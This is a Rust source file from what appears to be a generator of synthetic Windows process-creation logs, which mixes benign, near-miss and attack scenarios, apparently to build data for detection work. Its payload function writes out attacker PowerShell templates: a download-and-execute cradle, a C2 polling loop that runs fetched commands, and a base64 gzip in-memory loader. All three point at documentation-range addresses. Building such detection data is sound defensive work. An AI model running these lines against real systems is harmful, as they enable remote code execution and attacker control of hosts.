//! Scenarios: what happens on a host, as one or a few related process creations.
//!
//! [`run`] draws a class (benign, near miss, attack), a scenario of that class by weight and a host
//! whose role suits it; the scenario queues its events through `Generator::spawn`. Parents are
//! either long-lived processes of the host (`Generator::resident`: started before the capture, no
//! event of their own) or processes the scenario just spawned.

use crate::fleet::{ANY, CLIENT, DEV, DOMAIN, Proc, Role, SRV, WKS, Who};
use crate::text::{base64, encoded_command};
use crate::{Generator, Kind};

mod admin;
mod apps;
mod attack;
mod dev;
mod near_miss;
mod windows;

use admin::*;
use apps::*;
use attack::*;
use dev::*;
use near_miss::*;
use windows::*;

type Scenario = fn(&mut Generator, usize);

/// Out of 100,000 scenarios, how many are attacks and how many near misses: tuned so that about
/// 0.1 % of events are attacks and 7 % near misses (checked by the tests).
const ATTACKS_PER_100K: usize = 60;
const NEAR_MISSES_PER_100K: usize = 7_800;

pub(crate) fn run(g: &mut Generator) {
    let r = g.rng.below(100_000);
    let table = if r < ATTACKS_PER_100K {
        ATTACK
    } else if r < ATTACKS_PER_100K + NEAR_MISSES_PER_100K {
        NEAR_MISS
    } else {
        BENIGN
    };
    let &(mask, scenario) = g.rng.weighted(table);
    let h = g.fleet.pick(&mut g.rng, mask);
    scenario(g, h);
}

#[rustfmt::skip]
const BENIGN: &[(u32, (u8, Scenario))] = &[
    (115, (ANY, service_start)),
    (105, (ANY, com_activation)),
    (90, (ANY, scheduled_task)),
    (1, (ANY, ngen)),
    (14, (ANY, windows_update)),
    (30, (CLIENT, browser)),
    (6, (CLIENT, teams)),
    (14, (CLIENT, onedrive)),
    (20, (CLIENT, office)),
    (22, (CLIENT, desktop_app)),
    (30, (ANY, search)),
    (85, (ANY, system_misc)),
    (25, (DEV, dev_git)),
    (10, (DEV, dev_build)),
    (10, (DEV, dev_script)),
    (20, (SRV, admin_powershell)),
    (20, (SRV, server_duty)),
    (20, (ANY, agents)),
    (80, (ANY, monitoring)),
];

#[rustfmt::skip]
const NEAR_MISS: &[(u32, (u8, Scenario))] = &[
    (20, (ANY, ps_encoding)),
    (10, (ANY, ps_bypass_file)),
    (4, (DEV, ps_download_to_file)),
    (10, (ANY, certutil_admin)),
    (5, (CLIENT, mshta_local)),
    (20, (ANY, rundll32_shell)),
    (8, (ANY, regsvr32_local)),
    (22, (ANY, cmd_from_explorer)),
    (14, (CLIENT, logon_script)),
    (8, (ANY, whoami_plain)),
    (4, (SRV, cscript_slmgr)),
    (6, (ANY, schtasks_query)),
    (5, (ANY, net_user_domain)),
    (5, (SRV, vssadmin_list)),
    (3, (DEV, cdb_dump)),
    (3, (CLIENT, fodhelper_user)),
    (6, (CLIENT, office_print)),
];

#[rustfmt::skip]
const ATTACK: &[(u32, (u8, Scenario))] = &[
    (8, (WKS, macro_encoded_powershell)),
    (6, (WKS, excel_squiblydoo)),
    (8, (CLIENT, download_cradle)),
    (6, (SRV, webshell_certutil)),
    (6, (WKS, mshta_remote)),
    (6, (CLIENT, rundll32_abuse)),
    (8, (WKS, script_from_temp)),
    (6, (CLIENT, cdb_script)),
    (6, (CLIENT, fodhelper_bypass)),
    (5, (ANY, discovery_and_persistence)),
    (5, (SRV, shadow_copy_deletion)),
];

// Images.
const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const CONHOST: &str = r"C:\Windows\System32\conhost.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const PWSH: &str = r"C:\Program Files\PowerShell\7\pwsh.exe";
const RUNDLL32: &str = r"C:\Windows\System32\rundll32.exe";
const REGSVR32: &str = r"C:\Windows\System32\regsvr32.exe";
const MSHTA: &str = r"C:\Windows\System32\mshta.exe";
const CERTUTIL: &str = r"C:\Windows\System32\certutil.exe";
const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
const CSCRIPT: &str = r"C:\Windows\System32\cscript.exe";
const WHOAMI: &str = r"C:\Windows\System32\whoami.exe";
const NET: &str = r"C:\Windows\System32\net.exe";
const NET1: &str = r"C:\Windows\System32\net1.exe";
const REG: &str = r"C:\Windows\System32\reg.exe";
const SCHTASKS: &str = r"C:\Windows\System32\schtasks.exe";
const TASKHOSTW: &str = r"C:\Windows\System32\taskhostw.exe";
const MPCMDRUN: &str = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe";
const CHROME: &str = r"C:\Program Files\Google\Chrome\Application\chrome.exe";
const EDGE: &str = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe";
const OFFICE: &str = r"C:\Program Files\Microsoft Office\root\Office16";
const GIT: &str = r"C:\Program Files\Git\cmd\git.exe";
const DOTNET: &str = r"C:\Program Files\dotnet\dotnet.exe";
const DOTNET_SDK: &str = r"C:\Program Files\dotnet\sdk\8.0.404";
const VS: &str = r"C:\Program Files\Microsoft Visual Studio\2022\Professional";
const MSVC_BIN: &str =
    r"C:\Program Files\Microsoft Visual Studio\2022\Professional\VC\Tools\MSVC\14.41.34120\bin\HostX64\x64";
const FABRIKAM: &str = r"C:\Program Files\Fabrikam\Backup Agent";
const NORTHWIND: &str = r"C:\Program Files\Northwind Security\Endpoint";
const CONHOST_CMD: &str = r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1";

/// Shares of the file server, and what documents are about.
const FILE_SHARES: [&str; 4] = ["Finance", "HR", "Projects", "Public"];
const DOC_TOPICS: [&str; 16] = [
    "Q3 forecast",
    "budget 2027",
    "meeting notes",
    "vendor contract",
    "travel expenses",
    "onboarding checklist",
    "release plan",
    "incident review",
    "customer list",
    "price sheet",
    "timesheet",
    "project status",
    "board deck",
    "hiring plan",
    "audit findings",
    "capacity plan",
];

impl Generator {
    fn user(&self, h: usize) -> String {
        self.fleet.hosts[h].user.clone()
    }

    fn host_name(&self, h: usize) -> String {
        let fqdn = &self.fleet.hosts[h].fqdn;
        fqdn[..fqdn.find('.').unwrap_or(fqdn.len())].to_string()
    }

    /// The first host with the given server duty.
    fn server(&self, duty: &str) -> usize {
        self.fleet.hosts.iter().position(|host| host.duty == duty).expect("the fleet has every server duty")
    }

    /// A long-lived process of host `h`, started before the capture (so it has no event).
    fn resident(&mut self, h: usize, key: &'static str) -> Proc {
        if let Some(p) = self.fleet.hosts[h].procs.get(key) {
            return p.clone();
        }
        let user = self.user(h);
        let svchost = |args: &str| (SVCHOST.to_string(), format!(r"C:\Windows\system32\svchost.exe {args}"));
        let ((image, cmd), who) = match key {
            "services" => (
                (r"C:\Windows\System32\services.exe".into(), r"C:\Windows\system32\services.exe".into()),
                Who::System,
            ),
            "userinit" => (
                (r"C:\Windows\System32\userinit.exe".into(), r"C:\Windows\system32\userinit.exe".into()),
                Who::User,
            ),
            "explorer" => (
                (r"C:\Windows\explorer.exe".into(), r"C:\Windows\Explorer.EXE".into()),
                Who::User,
            ),
            "dcom" => (svchost("-k DcomLaunch -p"), Who::System),
            "schedule" => (svchost("-k netsvcs -p -s Schedule"), Who::System),
            "appinfo" => (svchost("-k netsvcs -p -s Appinfo"), Who::System),
            "wuauserv" => (svchost("-k netsvcs -p -s wuauserv"), Who::System),
            "usosvc" => (svchost("-k netsvcs -p -s UsoSvc"), Who::System),
            "audiosrv" => (svchost("-k LocalServiceNetworkRestricted -p -s Audiosrv"), Who::LocalService),
            "iis" => (svchost("-k iissvcs"), Who::System),
            "search" => (
                (r"C:\Windows\System32\SearchIndexer.exe".into(), r"C:\Windows\system32\SearchIndexer.exe /Embedding".into()),
                Who::System,
            ),
            "defender" => (
                (
                    r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe".into(),
                    r#""C:\ProgramData\Microsoft\Windows Defender\platform\4.18.24090.11-0\MsMpEng.exe""#.into(),
                ),
                Who::System,
            ),
            "backup" => (
                (format!(r"{FABRIKAM}\fbagent.exe"), format!(r#""{FABRIKAM}\fbagent.exe" --service"#)),
                Who::System,
            ),
            "av" => (
                (format!(r"{NORTHWIND}\nwsvc.exe"), format!(r#""{NORTHWIND}\nwsvc.exe" -service"#)),
                Who::System,
            ),
            "sqlagent" => (
                (
                    r"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE".into(),
                    r#""C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE" -i MSSQLSERVER"#.into(),
                ),
                Who::NetworkService,
            ),
            "outlook" => (
                (format!(r"{OFFICE}\OUTLOOK.EXE"), format!(r#""{OFFICE}\OUTLOOK.EXE" "#)),
                Who::User,
            ),
            "terminal" => (
                (
                    r"C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.21.2911.0_x64__8wekyb3d8bbwe\WindowsTerminal.exe".into(),
                    r#""C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.21.2911.0_x64__8wekyb3d8bbwe\WindowsTerminal.exe""#.into(),
                ),
                Who::User,
            ),
            "pwsh" => ((PWSH.into(), format!(r#""{PWSH}" -NoLogo"#)), Who::User),
            "code" => {
                let code = format!(r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe");
                ((code.clone(), format!(r#""{code}" "#)), Who::User)
            }
            "devenv" => (
                (
                    format!(r"{VS}\Common7\IDE\devenv.exe"),
                    format!(r#""{VS}\Common7\IDE\devenv.exe" "C:\src\{}\{}.sln""#, self.fleet.hosts[h].repo, solution(self.fleet.hosts[h].repo)),
                ),
                Who::User,
            ),
            _ => unreachable!("no resident process {key}"),
        };
        let started = self.clock_ms / 1000 - self.rng.range(60, 86_400);
        let pid = self.rng.pid();
        let host = &mut self.fleet.hosts[h];
        let proc =
            Proc { host: h, pid, guid: host.process_guid(started), image, cmd, user: host.account(who).name.clone() };
        host.procs.insert(key, proc.clone());
        proc
    }

    /// Spawn a console program and the conhost.exe that Windows gives it.
    fn console(&mut self, parent: &Proc, who: Who, image: &str, cmd: impl Into<String>, cwd: &str, kind: Kind) -> Proc {
        let p = self.spawn(parent, who, image, cmd, cwd, kind);
        self.spawn(&p, who, CONHOST, CONHOST_CMD, r"C:\Windows", Kind::Benign);
        p
    }

    /// An address of the documentation ranges, for attack infrastructure.
    fn c2(&mut self) -> String {
        let net = self.rng.pick(&["198.51.100", "203.0.113", "192.0.2"]);
        format!("{net}.{}", self.rng.range(2, 254))
    }

    /// A document of the host's user: in OneDrive, on a file share, or just downloaded.
    fn document(&mut self, h: usize, ext: &str) -> String {
        let user = self.user(h);
        let topic = self.rng.pick(&DOC_TOPICS);
        let suffix = match self.rng.below(5) {
            0 => String::new(),
            4 => format!("_{}", self.rng.range(10_000, 99_999)),
            1 => format!(" v{}", self.rng.range(2, 9)),
            2 => format!(" ({})", self.rng.range(1, 4)),
            _ => format!(" 2026-{:02}-{:02}", self.rng.range(1, 11), self.rng.range(1, 28)),
        };
        match self.rng.below(5) {
            0 | 1 => {
                format!(r"C:\Users\{user}\OneDrive - Example Corp\Documents\{topic}{suffix}.{ext}")
            }
            2 => format!(r"\\srv-fs-01.{DOMAIN}\shares\{}\{topic}{suffix}.{ext}", self.rng.pick(&FILE_SHARES)),
            3 => format!(r"C:\Users\{user}\Downloads\{topic}{suffix}.{ext}"),
            _ => format!(r"C:\Users\{user}\Desktop\{topic}{suffix}.{ext}"),
        }
    }

    /// A PowerShell payload of an attacker, 100 to ~1,700 characters.
    fn payload(&mut self, h: usize) -> String {
        let c2 = self.c2();
        match self.rng.below(3) {
            0 => format!(
                "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');IEX($wc.DownloadString('http://{c2}/{}'))",
                self.rng.chars(6, b"abcdefghijklmnopqrstuvwxyz0123456789")
            ),
            1 => format!(
                "while($true){{try{{$r=Invoke-RestMethod -Uri 'https://{c2}/api/v2/poll?h={}&id={}';if($r.cmd){{IEX $r.cmd}}}}catch{{}};Start-Sleep -Seconds {}}}",
                self.host_name(h),
                self.rng.hex(8, false),
                self.rng.range(30, 300)
            ),
            _ => {
                let len = self.rng.range(200, 1_000) as usize;
                let blob = base64(&self.rng.bytes(len));
                format!(
                    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{blob}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
                )
            }
        }
    }
}

fn solution(repo: &str) -> &'static str {
    match repo {
        "billing-api" => "Billing",
        "portal-web" => "Portal",
        "etl-jobs" => "EtlJobs",
        _ => "Inventory",
    }
}
